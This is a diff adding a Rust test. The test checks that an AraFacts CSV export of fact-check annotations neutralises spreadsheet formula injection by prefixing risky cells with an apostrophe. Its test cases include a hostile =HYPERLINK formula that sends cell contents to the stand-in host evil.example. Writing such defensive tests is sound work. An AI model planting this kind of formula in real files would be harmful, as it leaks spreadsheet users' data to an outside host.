@@ -340,6 +340,72 @@ fn arafacts_csv_reads_back_field_by_field() {
     }
 }
 
+/// The file of `format` for `annotations` alone, labels in English.
+fn write_these(annotations: &[Annotation], reviewer: &Reviewer, format: Format) -> String {
+    let a = article();
+    let (registry, scale) = (default_registry(), default_scale());
+    Export {
+        annotations,
+        article: &a,
+        registry: &registry,
+        scale: &scale,
+        reviewer,
+        arabic: false,
+    }
+    .write(format, "urn:x:export", NOW)
+}
+
+#[test]
+fn arafacts_csv_cells_never_start_a_formula() {
+    // (a cell's text, what a spreadsheet is given): OWASP's characters get a `'` before them.
+    let cases = [
+        ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", true),
+        ("+1+2", true),
+        ("-2+3", true),
+        ("@SUM(A1:A9)", true),
+        ("\t=1+1", true),
+        ("\r=1+1", true),
+        ("سقوط =1", false),
+        ("'already quoted", false),
+        ("", false),
+    ];
+    let a = article();
+    for (hostile, guarded) in cases {
+        let want = if guarded {
+            format!("'{hostile}")
+        } else {
+            hostile.to_string()
+        };
+        let mut claim = annotate(&a, ADVICE, Kind::Claim, hostile);
+        claim.target.exact = hostile.into();
+        claim.note = hostile.into();
+        claim.claim.date = Some(hostile.into());
+        let reviewer = Reviewer {
+            name: String::new(),
+            organization: format!("{hostile}x"),
+            url: String::new(),
+        };
+        let text = write_these(&[claim], &reviewer, Format::AraFactsCsv);
+        let records = read_csv(text.trim_start_matches('\u{feff}'));
+        let row = &records[1];
+        // id, quote, note, date; the organisation is trimmed first (a tab or CR before it goes).
+        for column in [0, 1, 2, 4] {
+            assert_eq!(row[column], want, "{hostile:?} in column {column}");
+        }
+        let org = format!("{hostile}x");
+        let org = org.trim();
+        let org_guarded = org.starts_with(['=', '+', '-', '@']);
+        assert_eq!(
+            row[3],
+            if org_guarded {
+                format!("'{org}")
+            } else {
+                org.to_string()
+            }
+        );
+    }
+}
+
 #[test]
 fn checkthat_tsv_lists_decided_claims_on_one_line_each() {
     let a = article();
